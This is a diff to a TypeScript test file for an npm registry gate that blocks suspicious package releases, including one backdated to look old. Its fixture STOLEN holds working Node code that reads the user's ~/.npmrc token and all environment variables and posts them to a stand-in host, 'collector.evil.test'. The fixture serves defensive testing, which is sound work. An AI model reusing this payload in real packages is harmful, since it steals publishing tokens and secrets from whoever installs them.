@@ -55,23 +55,24 @@ const PLAIN = (version: string, when: string, ...words: readonly string[]) => re
 const TEXT = (version: string, when: string, code: string) =>
   `published ${when} by maker\n-- package.json --\n{"name":"quiet","version":"${version}","license":"MIT","main":"index.js"}\n-- index.js --\n${code}\n`;
 
+const STOLEN = [
+  `const { execSync } = require("child_process"), https = require("https"), fs = require("fs"), os = require("os");`,
+  `const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");`,
+  `const all = Buffer.from(JSON.stringify({ env: process.env, token })).toString("base64");`,
+  `https.request({ host: "collector.evil.test", method: "POST" }).end(all);`,
+  `execSync("true");`,
+].join("\n");
+
 test("a release is looked at before its tarball is served, once, and what is found is kept", async () => {
   const opened = await openGate({ config: NO_WAIT });
   const { fixture, get } = opened;
-  const stolen = [
-    `const { execSync } = require("child_process"), https = require("https"), fs = require("fs"), os = require("os");`,
-    `const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");`,
-    `const all = Buffer.from(JSON.stringify({ env: process.env, token })).toString("base64");`,
-    `https.request({ host: "collector.evil.test", method: "POST" }).end(all);`,
-    `execSync("true");`,
-  ].join("\n");
   for (const [version, when] of [
     ["1.0.0", "2025-06-01T00:00:00Z"],
     ["1.0.1", "2025-10-01T00:00:00Z"],
     ["1.0.2", "2026-01-10T00:00:00Z"],
   ] as const)
     fixture.publish(TEXT(version, when, `exports.version = "${version}";`));
-  fixture.publish(TEXT("1.0.3", "2026-03-30T00:00:00Z", stolen));
+  fixture.publish(TEXT("1.0.3", "2026-03-30T00:00:00Z", STOLEN));
   fixture.publish(TEXT("1.0.4", "2026-03-30T01:00:00Z", `exports.version = "1.0.4";`));
 
   // Its packument says nothing of it; the first who asks for the bytes learns it, and then nobody is offered it.
@@ -118,4 +119,15 @@ test("a predecessor whose tarball is gone is stood in for by the release before 
   expect(fixture.log.find({ route: "tarball", version: "1.0.0" })).toHaveLength(1);
   fixture.faults.add({ route: "tarball", name: "quiet", version: "1.0.0" }, { status: 404 });
   expect((await get("/quiet/-/quiet-1.0.3.tgz")).status).toBe(200);
+});
+
+test("a version that says it is years old and was not there yesterday is looked at like a young one", async () => {
+  const opened = await openGate({ config: NO_WAIT });
+  const { fixture, get } = opened;
+  fixture.publish(PLAIN("1.0.0", "2021-06-01T00:00:00Z"));
+  expect((await get("/quiet")).status).toBe(200);
+  fixture.clock.advance("1d");
+  fixture.publish(TEXT("1.0.1", "2021-10-01T00:00:00Z", STOLEN));
+  expect((await get("/quiet/-/quiet-1.0.1.tgz")).status).toBe(403);
+  expect((await whyOf(opened, "quiet@1.0.1")).reasons).toContain("capability-added");
 });
